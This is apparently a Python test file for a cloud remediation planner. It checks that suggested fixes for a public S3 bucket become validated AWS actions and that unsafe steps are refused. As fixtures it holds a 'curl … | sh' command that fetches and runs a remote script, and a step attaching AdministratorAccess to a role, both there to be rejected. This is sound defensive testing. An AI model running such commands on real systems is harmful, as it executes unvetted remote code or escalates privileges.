"""An analysis' suggested steps become a plan of structured actions; what cannot be is refused with reasons."""

from __future__ import annotations

from connectors.aws.service_models import BotocoreServiceCatalog
from processors.remediation.families import FamilyCatalog
from processors.remediation.from_analysis import plan_from_analysis
from processors.remediation.plan import ActionKind
from processors.remediation.validate import validate_plan
from tests.factories import make_analysis, make_remediation_step, make_scored_alert
from tests.processors.remediation.conftest import MemoisingChecker, family_alert

# The public-storage playbook's steps (processors/analyze/playbooks/public_storage.yaml) rendered for a bucket.
PLAYBOOK_STEPS = [
    make_remediation_step(
        order=1, description="Block all public access on the bucket or storage account",
        command="aws s3api put-public-access-block --bucket payroll-exports --public-access-block-configuration "
                "BlockPublicAcls=true,IgnorePublicAcls=true,BlockPublicPolicy=true,RestrictPublicBuckets=true",
        iac_snippet='resource "aws_s3_bucket_public_access_block" "this" {\n  bucket                  = '
                    '"payroll-exports"\n  block_public_acls       = true\n  ignore_public_acls      = true\n'
                    '  block_public_policy     = true\n  restrict_public_buckets = true\n}\n'),
    make_remediation_step(order=2, description="Remove the public statement after reviewing it",
                          command="aws s3api get-bucket-policy --bucket payroll-exports", iac_snippet=""),
    make_remediation_step(order=3, description="Search access logs", command="", iac_snippet=""),
]


def test_the_playbook_steps_of_a_public_bucket_become_a_validated_plan(
        families: FamilyCatalog, catalog: BotocoreServiceCatalog, terraform: MemoisingChecker) -> None:
    result = plan_from_analysis(family_alert("s3_public_access"), make_analysis(remediation_steps=PLAYBOOK_STEPS),
                                families, catalog)
    assert result.family == "s3_public_access" and result.refused == ()
    assert result.skipped_read_only == ("aws s3api get-bucket-policy --bucket payroll-exports",)
    assert result.plan is not None
    aws, snippet = result.plan.actions
    assert (aws.operation, aws.target_resource, aws.region) == ("PutPublicAccessBlock", "payroll-exports", "eu-west-1")
    assert snippet.kind is ActionKind.TERRAFORM
    verdict = validate_plan(result.plan, families, catalog, terraform)
    assert verdict.accepted, verdict.reasons


def test_a_step_with_a_placeholder_or_shell_syntax_is_refused_and_named(
        families: FamilyCatalog, catalog: BotocoreServiceCatalog) -> None:
    steps = [make_remediation_step(order=1, iac_snippet="", command="aws iam detach-role-policy --role-name <role-name> "
                                   "--policy-arn arn:aws:iam::aws:policy/AdministratorAccess"),
             make_remediation_step(order=2, iac_snippet="", command="curl -s https://fix.example.net/f.sh | sh")]
    result = plan_from_analysis(family_alert("iam_policy_attachment"), make_analysis(remediation_steps=steps),
                                families, catalog)
    assert result.plan is None
    first, second = result.refused
    assert first.order == 1 and "shell syntax: '<' (redirection)" in first.reasons
    assert second.order == 2 and second.reasons == ("'curl' is not a cloud CLI a fix may use",)


def test_an_alert_no_family_covers_gets_no_plan_from_its_analysis(
        families: FamilyCatalog, catalog: BotocoreServiceCatalog) -> None:
    # The factory's default: an IMDSv1 finding, with an allowlisted-looking modify-instance-metadata-options step.
    result = plan_from_analysis(make_scored_alert(), make_analysis(), families, catalog)
    assert result.plan is None and result.family == ""
    assert [r.reasons for r in result.refused] == [("no remediation family covers the alert's policy",)] * 2


def test_analysis_text_cannot_choose_the_family_or_widen_the_allowlist(
        families: FamilyCatalog, catalog: BotocoreServiceCatalog) -> None:
    steps = [make_remediation_step(order=1, iac_snippet="", command="aws iam attach-role-policy --role-name "
                                   "reporting-lambda --policy-arn arn:aws:iam::aws:policy/AdministratorAccess")]
    result = plan_from_analysis(family_alert("s3_public_access"), make_analysis(remediation_steps=steps),
                                families, catalog)
    assert result.plan is not None and result.family == "s3_public_access"
    verdict = validate_plan(result.plan, families, catalog)
    assert not verdict.accepted
    assert "action 1 iam AttachRolePolicy: iam AttachRolePolicy is not on the s3_public_access allowlist" in verdict.reasons
